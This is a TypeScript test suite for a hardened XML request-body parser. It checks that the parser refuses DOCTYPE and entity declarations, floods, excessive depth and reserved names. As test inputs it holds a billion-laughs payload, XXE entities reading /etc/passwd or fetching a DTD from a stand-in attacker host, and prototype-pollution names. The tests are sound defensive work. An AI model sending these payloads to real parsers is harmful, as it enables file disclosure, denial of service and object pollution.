import fc from 'fast-check'
import t from 'tap'
import { parseXml } from '../../src/formats/parse-xml.js'
import { parseInboundBody } from '../../src/inbound/parse-body.js'

const reasonOf = (text: string) => {
  const result = parseXml(text)
  return result.ok ? 'ok' : result.reason
}

t.test('elements become nested parameters; text is decoded, CDATA kept literal', async (t) => {
  const result = parseXml(
    '<?xml version="1.0" encoding="UTF-8"?>\n' +
      '<lead id="7"><email>ana@acme.example</email><company>Smith &amp; Co &#x41;&#66;</company>' +
      '<note><![CDATA[<b>&amp;</b>]]></note><tag>a</tag><tag>b</tag><empty/></lead>',
  )
  t.same(result, {
    ok: true,
    params: {
      lead: {
        '@id': '7',
        email: 'ana@acme.example',
        company: 'Smith & Co AB',
        note: '<b>&amp;</b>',
        tag: ['a', 'b'],
        empty: '',
      },
    },
  })
})

t.test('namespaces are dropped, so SOAP envelopes read plainly', async (t) => {
  const result = parseXml(
    '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>' +
      '<n:notification xmlns:n="urn:x"><n:Id>42</n:Id></n:notification></soapenv:Body></soapenv:Envelope>',
  )
  t.same(result.ok && result.params, { Envelope: { Body: { notification: { Id: '42' } } } })
})

t.test('billion laughs is refused before parsing', async (t) => {
  const lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>`
  t.equal(reasonOf(lol), 'XML body: DOCTYPE and ENTITY declarations are not accepted')
})

t.test('external entities are refused, in any spelling', async (t) => {
  for (const text of [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>',
    '<!doctype foo><foo/>',
    '<foo><!ENTITY x "y"></foo>',
  ]) {
    t.equal(reasonOf(text), 'XML body: DOCTYPE and ENTITY declarations are not accepted', text)
  }
  t.match(
    reasonOf('<foo>&xxe;</foo>'),
    /undeclared entity &xxe;/,
    'an undeclared entity is not passed through',
  )
})

t.test('a flood of character references is refused at the cap', async (t) => {
  t.ok(parseXml(`<a>${'&#x41;'.repeat(10_000)}</a>`).ok, '10,000 are fine')
  t.equal(
    reasonOf(`<a>${'&#x41;'.repeat(10_001)}</a>`),
    'XML body: more than 10000 character references',
  )
  t.equal(
    reasonOf(`<a b="${'&#65;'.repeat(200_000)}"/>`),
    'XML body: more than 10000 character references',
  )
})

t.test('references to characters XML does not allow are refused', async (t) => {
  t.match(reasonOf('<a>&#0;</a>'), /&#0; is not an XML character/)
  t.match(reasonOf('<a>&#xD800;</a>'), /&#xD800; is not an XML character/)
  t.match(reasonOf('<a>&#x110000;</a>'), /not an XML character/)
  t.match(reasonOf(`<a>&#x${'1'.repeat(50)};</a>`), /not an XML character/)
})

t.test('depth is capped', async (t) => {
  t.ok(parseXml(`${'<a>'.repeat(30)}x${'</a>'.repeat(30)}`).ok)
  t.match(
    reasonOf(`${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`),
    /^XML body: nested deeper than 32 levels \(line 1, column \d+\)$/,
  )
})

t.test('malformed XML, reserved names and foreign encodings are refused', async (t) => {
  t.match(reasonOf('<a><b>1</a>'), /^XML body: .*closing tag.*\(line 1, column \d+\)$/)
  t.match(
    reasonOf('<a>1</a><b>2</b>'),
    /^XML body: more than one root element \(line 1, column 9\)$/,
  )
  t.match(reasonOf('<a>x & y</a>'), /^XML body: /)
  t.match(reasonOf('<a><__proto__>1</__proto__></a>'), /the name "__proto__" is not allowed/)
  t.match(
    reasonOf('<a><constructor><prototype>1</prototype></constructor></a>'),
    /"constructor" is not allowed/,
  )
  t.match(reasonOf('<a __proto__="1"/>'), /"__proto__" is not allowed/)
  t.match(
    reasonOf('<?xml version="1.0" encoding="ISO-8859-1"?><a/>'),
    /declares encoding "ISO-8859-1"; send UTF-8/,
  )
  t.match(reasonOf('just text'), /^XML body: /)
  t.equal(({} as Record<string, unknown>).polluted, undefined)
})

t.test('parseInboundBody routes XML and refuses its invalid UTF-8', async (t) => {
  const body = Buffer.concat([Buffer.from('<a>'), Buffer.from([0xc3, 0x28]), Buffer.from('</a>')])
  t.same(parseInboundBody({ rawBody: body, format: 'xml' }), {
    ok: false,
    reason: 'the body is not valid UTF-8',
    code: 'invalid_body',
  })
})

const limits = { maxDepth: 32, maxValues: 100, maxParameters: 1000 }

t.test('elements and attributes past the value cap are refused as they are counted', async (t) => {
  const attributes = (n: number) =>
    `<a ${Array.from({ length: n }, (_, i) => `k${i}="1"`).join(' ')}/>`
  t.ok(parseXml(attributes(99), limits).ok, 'the element and 99 attributes are 100 values')
  t.same(parseXml(attributes(100), limits), {
    ok: false,
    reason: 'XML body: more than 100 elements and attributes',
    code: 'too_many_values',
  })
  const siblings = (n: number) => `<a>${'<b>1</b>'.repeat(n)}</a>`
  t.ok(parseXml(siblings(99), limits).ok)
  t.match(parseXml(siblings(100), limits), { ok: false, code: 'too_many_values' })
  t.match(parseXml(`${'<a>'.repeat(40)}${'</a>'.repeat(40)}`, limits), {
    ok: false,
    code: 'too_deep',
  })
})

t.test('an element the handler indexes is a list, one element or many', async (t) => {
  const lists = new Set(['lead.tags.tag'])
  const one = parseXml('<lead><tags><tag>only</tag></tags><name>x</name></lead>', limits, lists)
  const two = parseXml('<lead><tags><tag>a</tag><tag>b</tag></tags></lead>', limits, lists)
  t.same(one.ok && one.params, { lead: { tags: { tag: ['only'] }, name: 'x' } })
  t.same(two.ok && two.params, { lead: { tags: { tag: ['a', 'b'] } } })
  const unlisted = parseXml('<lead><tags><tag>only</tag></tags></lead>', limits)
  t.same(unlisted.ok && unlisted.params, { lead: { tags: { tag: 'only' } } })
})

t.test('text PostgreSQL cannot store is refused as invalid_text', async (t) => {
  t.match(parseXml('<a>x\u0000y</a>'), { ok: false, code: 'invalid_text', reason: /U\+0000/ })
  t.match(parseXml('<a>&#0;</a>'), { ok: false, code: 'invalid_text' })
  t.match(parseXml('<a>x\u0001y</a>'), { ok: false, reason: /U\+0001 is not an XML character/ })
})

t.test('mixed text, CDATA, comments and attributes read as documented', async (t) => {
  const result = parseXml(
    '<?xml version="1.0"?>\n<!-- c --><r xmlns="urn:x" a=\'1\' b = "x &lt; y">\n  hi <![CDATA[ & ]]>\n' +
      '<s:e xmlns:s="urn:s" s:k="v"/><e>2</e><?pi x?></r>\n',
  )
  t.same(result.ok && result.params, {
    r: { '@a': '1', '@b': 'x < y', e: [{ '@k': 'v' }, '2'], '#text': 'hi & ' },
  })
  for (const bad of [
    '<a b="1"c="2"/>',
    '<a b=1/>',
    '<a b="<"/>',
    '<a b="1" b="2"/>',
    '<a>',
    '<a></b>',
    'x<a/>',
    '<a/>x',
    '<a/><!-- x',
  ]) {
    t.match(reasonOf(bad), /^XML body: .*\(line \d+, column \d+\)$|^XML body: /, bad)
    t.not(reasonOf(bad), 'ok', bad)
  }
})

t.test('the XML parser never throws', async () => {
  const tag = fc.constantFrom('a', 'b', 'x:y', '__proto__', 'constructor')
  const fragment = fc.oneof(
    tag.map((name) => `<${name}>`),
    tag.map((name) => `</${name}>`),
    tag.map((name) => `<${name} k="&amp;v"/>`),
    fc.constantFrom(
      '&amp;',
      '&#x41;',
      '&#0;',
      '&lt;',
      '&foo;',
      '<![CDATA[x]]>',
      '<!-- c -->',
      '<?pi x?>',
      '<!DOCTYPE',
      '&',
      '<',
      ']]>',
    ),
    fc.string({ maxLength: 5 }),
  )
  fc.assert(
    fc.property(fc.array(fragment, { maxLength: 30 }), (parts) => {
      const result = parseXml(parts.join(''))
      return result.ok ? typeof result.params === 'object' : typeof result.reason === 'string'
    }),
    { numRuns: 5000 },
  )
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
      const result = parseXml(text)
      return result.ok || typeof result.reason === 'string'
    }),
    { numRuns: 2000 },
  )
})
